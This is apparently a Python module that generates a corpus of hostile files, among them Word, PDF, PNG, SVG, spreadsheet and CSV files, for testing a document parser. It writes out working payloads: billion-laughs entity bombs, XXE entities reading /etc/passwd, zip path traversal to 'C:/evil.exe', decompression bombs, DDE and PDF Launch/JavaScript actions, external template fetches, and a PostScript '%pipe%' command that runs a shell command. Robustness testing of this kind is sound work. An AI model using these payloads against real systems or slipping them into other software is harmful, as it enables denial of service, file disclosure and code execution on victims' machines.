"""Files made to harm whoever opens them, each small on the disk and named after its trap. Made here, kept nowhere."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
MAIN = (
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/>'
)
EXTERNAL = (
    b'<Relationship Id="x%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="%s" TargetMode="External"/>'
)


def zeros(count: int) -> bytes:
    """`count` zero bytes (whole MiB), deflated; made at once, since a flushed block may be said again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    size = count >> 20 << 20
    return b"\x78\xda" + block * (count >> 20) + b"\x03\x00" + struct.pack(">HH", size % 65521, 1)


# Word


def package(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for name, data in parts.items():
            file.writestr(name, data)
    return out.getvalue()


def word(body: bytes = b"<w:p/>", head: bytes = b"", rels: bytes = b"", more: dict[str, bytes] | None = None) -> bytes:
    document = b'<?xml version="1.0" encoding="UTF-8"?>%s<w:document %s %s><w:body>%s</w:body></w:document>'
    return package(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": RELS % MAIN,
            "word/document.xml": document % (head, W, R, body),
            "word/_rels/document.xml.rels": RELS % rels,
            **(more or {}),
        }
    )


def utf16(body: bytes, head: bytes) -> bytes:
    text = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        + (head + b"<w:document %s><w:body>%s</w:body></w:document>" % (W, body)).decode()
    )
    return word(more={"word/document.xml": text.encode("utf-16")})


def field(*pieces: bytes) -> bytes:
    run = b"<w:r>%s</w:r>"
    return (
        b"<w:p>"
        + run % b'<w:fldChar w:fldCharType="begin"/>'
        + b"".join(run % (b"<w:instrText>%s</w:instrText>" % piece) for piece in pieces)
        + run % b'<w:fldChar w:fldCharType="end"/>'
        + b"</w:p>"
    )


def lying_size() -> bytes:
    """The directory says that a part is small; it unpacks to 300 MB."""
    data = bytearray(word(more={"word/media/a.png": bytes(300 << 20)}))
    for mark, at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = data.rfind(b"word/media/a.png")
        start = data.rfind(mark, 0, start if mark == b"PK\x01\x02" else data.find(b"word/media/a.png"))
        data[start + at : start + at + 4] = struct.pack("<I", 1000)
    return bytes(data)


def overlapped() -> bytes:
    """Forty entries of the directory share the bytes of one."""
    out = io.BytesIO(word(more={"word/media/a.png": b"A" * 1_000_000}))
    with zipfile.ZipFile(out, "a") as file:
        import copy

        first = file.getinfo("word/media/a.png")
        for n in range(40):
            again = copy.copy(first)
            again.filename = again.orig_filename = f"word/media/b{n}.png"
            file.filelist.append(again)
            file.NameToInfo[again.filename] = again
        file._didModify = True
    return out.getvalue()


def compressed(method: int) -> bytes:
    return package(
        {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELS % MAIN, "word/document.xml": b"A" * 9_000_000},
        method,
    )


LAUGHS = (
    b'<!DOCTYPE d [<!ENTITY a0 "hahahahaha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]>"
)
PARAGRAPH = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"
CELL = b"<w:tc><w:p/></w:tc>"


def nested(count: int) -> bytes:
    return b"<w:tbl><w:tr><w:tc>" * count + b"<w:p/></w:tc></w:tr></w:tbl>" * count


WORD: dict[str, Callable[[], bytes]] = {
    "word_laughs_in_a_footnote": lambda: word(
        more={"word/footnotes.xml": LAUGHS + b"<w:footnotes %s><w:p>&a9;</w:p></w:footnotes>" % W}
    ),
    "word_laughs_in_utf16": lambda: utf16(b"<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", LAUGHS),
    "word_quadratic_attribute": lambda: word(
        b'<w:p w:rsidR="' + b"&a;" * 3000 + b'"/>', b'<!DOCTYPE d [<!ENTITY a "' + b"A" * 60_000 + b'">]>'
    ),
    "word_external_dtd": lambda: word(head=b'<!DOCTYPE d SYSTEM "http://127.0.0.1:9/evil.dtd">'),
    "word_entity_file_in_rels": lambda: word(
        more={"word/_rels/document.xml.rels": b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + RELS % b"&x;"}
    ),
    "word_size_that_lies": lying_size,
    "word_zip_overlap": overlapped,
    "word_zip_bzip2": lambda: compressed(zipfile.ZIP_BZIP2),
    "word_zip_lzma": lambda: compressed(zipfile.ZIP_LZMA),
    "word_zip_same_name_other_case": lambda: word(more={"word/Document.xml": b"<x/>"}),
    "word_zip_backslash": lambda: word(more={"word\\..\\..\\evil.exe": b"MZ"}),
    "word_zip_drive": lambda: word(more={"C:/evil.exe": b"MZ"}),
    "word_rels_traversal": lambda: word(
        rels=b'<Relationship Id="x" Type="http://x/image" Target="../../../../../../etc/passwd"/>'
    ),
    "word_tables_10000_deep": lambda: word(nested(10_000)),
    "word_tables_230_deep": lambda: word(nested(230)),
    "word_runs_1_million": lambda: word(b"<w:p>" + b"<w:r><w:t>x</w:t></w:r>" * 1_000_000 + b"</w:p>"),
    "word_paragraphs_90000_no_ratio": lambda: word(
        b"".join(b"<w:p><w:r><w:t>%d %x</w:t></w:r></w:p>" % (n, n * 7919 * 104729) for n in range(90_000))
    ),
    "word_row_of_200000_cells": lambda: word(b"<w:tbl><w:tr>" + CELL * 200_000 + b"</w:tr></w:tbl>"),
    "word_gridspan_2_billion": lambda: word(
        b'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
    ),
    "word_attribute_20_MB": lambda: word(b'<w:p w:rsidR="' + b"A" * 20_000_000 + b'"/>'),
    "word_dde_in_pieces": lambda: word(field(b"DD", b"EAU", b"TO c:\\\\x.exe ", b'"a"')),
    "word_includepicture_in_pieces": lambda: word(field(b"INCLUDE", b'PICTURE "http://127.0.0.1:9/b.png"')),
    "word_attached_template_and_frame": lambda: word(
        rels=EXTERNAL % (1, b"attachedTemplate", b"http://127.0.0.1:9/t.dotm")
        + EXTERNAL % (2, b"frame", b"file:///etc/passwd")
        + EXTERNAL % (3, b"oleObject", b"\\\\127.0.0.1\\x")
    ),
    "word_altchunk_in_a_header": lambda: word(
        more={"word/header1.xml": b'<w:hdr %s %s><w:altChunk r:id="x"/></w:hdr>' % (W, R), "word/afchunk.mht": b"MIME"}
    ),
    "word_macro_by_content_type": lambda: word(
        more={
            "[Content_Types].xml": CONTENT_TYPES.replace(
                b"openxmlformats-officedocument.wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
            )
        }
    ),
    "word_image_30000_square": lambda: word(more={"word/media/i.png": png(30_000, 30_000, 900 << 20)}),
    "word_is_a_folder": lambda: package({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml/": b""}),
    "word_names_without_end": lambda: word(more={"word/" + "a" * 60_000 + ".xml": b"<x/>"}),
}

# PDF


def pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    out, places = io.BytesIO(b"%PDF-1.7\n"), []
    out.seek(0, 2)
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    at = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, trailer, at))
    return out.getvalue()


def stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), head, data)


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def page(
    content: bytes = b"", resources: bytes = b"", more: list[bytes] | None = None, root: bytes = b"", own: bytes = b""
) -> bytes:
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % root,
            PAGES,
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<<%s>>%s>>" % (resources, own),
            stream(content),
            *(more or []),
        ]
    )


def form(fields: bytes, more: list[bytes]) -> bytes:
    return page(root=b"/AcroForm<</Fields[%s]/DA(/Helv 0 Tf 0 g)>>" % fields, own=b"/Annots[%s]" % fields, more=more)


WIDGET = b"<</Type/Annot/Subtype/Widget/FT/%s/T(%s)/Rect[9 9 200 30]/F 4%s>>"
IMAGE = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent %d/ColorSpace/Device%s/Filter/%s"
DRAW = b"600 0 0 700 0 0 cm /I Do"
SHOW = b"/XObject<</I 5 0 R>>"


def xref_stream_bomb() -> bytes:
    """A cross-reference stream that says it has two billion entries, and unpacks to 1 GB."""
    start = (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    )
    head = b"/Type/XRef/W[1 8 8]/Index[0 2000000000]/Size 2000000000/Root 1 0 R/Filter/FlateDecode"
    return start + b"3 0 obj\n" + stream(zeros(1 << 30), head) + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(start)


def object_streams_in_a_circle() -> bytes:
    """Two object streams, each said to extend the other, each unpacking to 200 MB."""
    body = zeros(200 << 20)
    head = b"/Type/ObjStm/N 1000000/First 10000000/Filter/FlateDecode/Extends %d 0 R"
    return page(more=[stream(body, head % 6), stream(body, head % 5)])


PDF: dict[str, Callable[[], bytes]] = {
    "pdf_object_streams_in_a_circle": object_streams_in_a_circle,
    "pdf_xref_stream_bomb": xref_stream_bomb,
    "pdf_page_tree_40000_deep": lambda: pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>"]
        + [b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (n - 1, n + 1) for n in range(2, 40_000)]
        + [b"<</Type/Page/MediaBox[0 0 9 9]>>"]
    ),
    "pdf_parents_in_a_circle": lambda: pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Parent 3 0 R/Kids[3 0 R]/Count 1>>",
         b"<</Type/Pages/Parent 2 0 R/Kids[4 0 R]/Count 1>>", b"<</Type/Page/Parent 3 0 R>>"]
    ),
    "pdf_pages_200000_of_one": lambda: pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count 200000>>" % (b"3 0 R " * 200_000),
         b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"]
    ),
    "pdf_field_names_in_a_circle": lambda: form(
        b"5 0 R", [b"<</T(a)/Kids[6 0 R]/Parent 7 0 R>>", b"<</T(b)/Kids[7 0 R]/Parent 5 0 R>>",
                   b"<</T(c)/FT/Tx/Kids[5 0 R]/Parent 6 0 R/Subtype/Widget/Rect[0 0 9 9]>>"]
    ),
    "pdf_fields_3000_deep": lambda: form(
        b"5 0 R", [b"<</T(a)/Kids[%d 0 R]/Parent %d 0 R>>" % (n + 1, n - 1) for n in range(5, 3_000)]
        + [WIDGET % (b"Tx", b"z", b"/Parent 2999 0 R")]
    ),
    "pdf_choice_of_300000": lambda: form(b"5 0 R", [WIDGET % (b"Ch", b"a", b"/Ff 131072/Opt[%s]" % (b"(x)" * 300_000))]),
    "pdf_box_without_end": lambda: form(
        b"5 0 R", [b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Ff 4096/Rect[-1e38 -1e38 1e38 1e38]/F 4>>"]
    ),
    "pdf_comb_of_2_billion": lambda: form(b"5 0 R", [WIDGET % (b"Tx", b"a", b"/Ff 16777216/MaxLen 2147483647/V(x)")]),
    "pdf_type_of_1e30": lambda: form(b"5 0 R", [WIDGET % (b"Tx", b"a", b"/DA(/Helv 1e30 Tf 0 g)/V(x)")]),
    "pdf_appearance_calls_itself": lambda: form(
        b"5 0 R", [WIDGET % (b"Tx", b"a", b"/AP<</N 6 0 R>>"),
                   stream(b"/S Do " * 5, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</S 6 0 R>>>>")]
    ),
    "pdf_forms_call_forms_6_to_the_12": lambda: page(
        b"/I Do", SHOW,
        [stream(b"/I Do " * 6, b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</I %d 0 R>>>>" % (n + 6))
         for n in range(12)] + [stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]")]
    ),
    "pdf_jbig2_60000_square": lambda: page(
        DRAW, SHOW, [stream(struct.pack(">IBBIIIIIBH", 0, 0x30, 0, 0, 19, 60_000, 60_000, 0, 0, 0) * 3, IMAGE % (60_000, 60_000, 1, b"Gray", b"JBIG2Decode"))]
    ),
    "pdf_jpx_60000_square": lambda: page(
        DRAW, SHOW,
        [stream(b"\xff\x4f\xff\x51" + struct.pack(">HHIIIIIIIIH", 41, 0, 60_000, 60_000, 0, 0, 1, 1, 0, 0, 1) + b"\x07\x01\x01" + b"\xff\xd9",
                IMAGE % (60_000, 60_000, 8, b"Gray", b"JPXDecode"))]
    ),
    "pdf_dct_65500_square": lambda: page(
        DRAW, SHOW,
        [stream(b"\xff\xd8\xff\xc0\x00\x0b\x08\xff\xdc\xff\xdc\x01\x01\x11\x00\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\0" * 500 + b"\xff\xd9",
                IMAGE % (65_500, 65_500, 8, b"Gray", b"DCTDecode"))]
    ),
    "pdf_ccitt_without_end": lambda: page(
        DRAW, SHOW, [stream(b"\0" * 1_000_000, IMAGE % (65_000, 2_000_000, 1, b"Gray", b"CCITTFaxDecode") + b"/DecodeParms<</K -1/Columns 65000>>")]
    ),
    "pdf_image_rgb_30000_square": lambda: page(DRAW, SHOW, [stream(zeros(2_700 << 20), IMAGE % (30_000, 30_000, 8, b"RGB", b"FlateDecode"))]),
    "pdf_filters_300_deep": lambda: page(DRAW, SHOW, [stream(b"\x80" * 500, b"/Filter[%s]" % (b"/RunLengthDecode" * 300))]),
    "pdf_function_of_2_to_the_30_samples": lambda: page(
        b"/P sh", b"/Shading<</P<</ShadingType 1/ColorSpace/DeviceRGB/Function 5 0 R>>>>",
        [stream(b"", b"/FunctionType 0/Domain[0 1 0 1]/Range[0 1 0 1 0 1]/Size[32768 32768]/BitsPerSample 8")]
    ),
    "pdf_mesh_without_end": lambda: page(
        b"/P sh", b"/Shading<</P 5 0 R>>",
        [stream(zeros(200 << 20), b"/ShadingType 4/ColorSpace/DeviceRGB/BitsPerCoordinate 8/BitsPerComponent 8/BitsPerFlag 8/Decode[0 612 0 792 0 1 0 1 0 1]/Filter/FlateDecode")]
    ),
    "pdf_dashes_without_end": lambda: page(b"[0.000001] 0 d 1 w 0 0 m 600 700 l S " * 2_000),
    "pdf_saved_states_5_million": lambda: page(more=[], content=b"q " * 5_000_000),
    "pdf_xref_in_a_circle": lambda: (lambda data: data.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % data.rindex(b"xref\n0")))(page()),
    "pdf_structure_tree_in_a_circle": lambda: page(
        root=b"/MarkInfo<</Marked true>>/StructTreeRoot 5 0 R", more=[b"<</Type/StructTreeRoot/K 6 0 R>>", b"<</S/P/P 6 0 R/K[6 0 R 5 0 R]>>"]
    ),
    "pdf_javascript_everywhere": lambda: page(
        root=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>/AA<</WC<</S/Launch/F(x.exe)>>>>/AcroForm<</Fields[5 0 R]>>/Names<</JavaScript<</Names[(a) 6 0 R]>>>>",
        own=b"/Annots[5 0 R]/AA<</O<</S/URI/URI(http://127.0.0.1:9/)>>>>",
        more=[WIDGET % (b"Tx", b"a", b"/A<</S/Launch/F(x.exe)>>/AA<</K<</S/JavaScript/JS(1)>>>>"), b"<</S/JavaScript/JS(1)>>"],
    ),
}  # fmt: skip

# Pictures and sheets


def png(width: int, height: int, unpacked: int, extra: bytes = b"", colour: int = 0) -> bytes:
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0))
        + extra
        + chunk(b"IDAT", zeros(unpacked))
        + chunk(b"IEND", b"")
    )


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def sheet(rows: bytes, head: bytes = b"", more: dict[str, bytes] | None = None) -> bytes:
    main = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    types = (
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )
    return package(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": RELS % MAIN.replace(b"word/document.xml", b"xl/workbook.xml"),
            "xl/workbook.xml": b'<workbook %s %s><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>' % (main, R),
            "xl/_rels/workbook.xml.rels": RELS % (
                b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
                b'<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
            ),
            "xl/worksheets/sheet1.xml": head + b"<worksheet %s><sheetData>%s</sheetData></worksheet>" % (main, rows),
            **(more or {}),
        }
    )  # fmt: skip


STRINGS = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s</sst>'

OTHER: dict[str, Callable[[], bytes]] = {
    "png_60000_square": lambda: png(60_000, 60_000, 64 << 20),
    "png_comment_of_400_MB": lambda: png(1, 1, 1 << 20, chunk(b"zTXt", b"a\0\0" + zeros(400 << 20))),
    "png_profile_of_400_MB": lambda: png(1, 1, 1 << 20, chunk(b"iCCP", b"a\0\0" + zeros(400 << 20))),
    "png_6300_square_rgba": lambda: png(6_300, 6_300, 160 << 20, colour=6),
    "png_of_no_lines": lambda: png(0, 0, 1 << 20),
    "jpeg_65500_square": lambda: b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xdc\xff\xdc\x03\x01\x11\x00\x02\x11\x00\x03\x11\x00\xff\xda" + b"\0" * 600,
    "jpeg_without_end": lambda: b"\xff\xd8" + b"\xff\xe0\x00\x10JFIF\0" + b"\0" * 9 + b"\xff" * 5_000_000,
    "tiff_named_png": lambda: b"II*\0" + struct.pack("<I", 8) + b"\0" * 3_000,
    "postscript_named_png": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\n(%pipe%touch /tmp/PLANSCRIBE_PWN) (w) file\n",
    "svg_laughs": lambda: LAUGHS + b'<svg xmlns="http://www.w3.org/2000/svg"><text>&a9;</text></svg>',
    "svg_use_10_to_the_9": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><defs><g id="a0"><path d="M0 0h1"/></g>'
    + b"".join(b'<g id="a%d">%s</g>' % (n, b'<use xlink:href="#a%d"/>' % (n - 1) * 10) for n in range(1, 10))
    + b'</defs><use xlink:href="#a9"/></svg>',
    "svg_100000_deep": lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 100_000 + b"</g>" * 100_000 + b"</svg>",
    "sheet_laughs": lambda: sheet(b'<row r="1"><c t="inlineStr"><is><t>&a9;</t></is></c></row>', LAUGHS),
    "sheet_last_cell_of_all": lambda: sheet(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "sheet_row_2_billion": lambda: sheet(b'<row r="2000000000"><c r="A2000000000"><v>1</v></c></row>'),
    "sheet_rows_800000": lambda: sheet(b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (n, n, n * 7919) for n in range(1, 800_000))),
    "sheet_strings_1_million": lambda: sheet(b"", more={"xl/sharedStrings.xml": STRINGS % b"".join(b"<si><t>%x</t></si>" % (n * 7919) for n in range(1_000_000))}),
    "sheet_macro": lambda: sheet(b"", more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "sheet_number_of_5_million_digits": lambda: sheet(b'<row r="1"><c r="A1"><v>' + b"9" * 5_000_000 + b"</v></c></row>"),
    "csv_quote_never_closed": lambda: b'name,ssn\n"' + b"A" * 20_000_000,
    "csv_500000_columns": lambda: b",".join([b"a"] * 500_000),
    "csv_2_million_rows": lambda: b"a\n" * 2_000_000,
    "csv_with_nul": lambda: b"name\n\0\0",
}  # fmt: skip


def all_attacks() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Every file: its name and what makes it."""
    for group in (WORD, PDF, OTHER):
        yield from group.items()
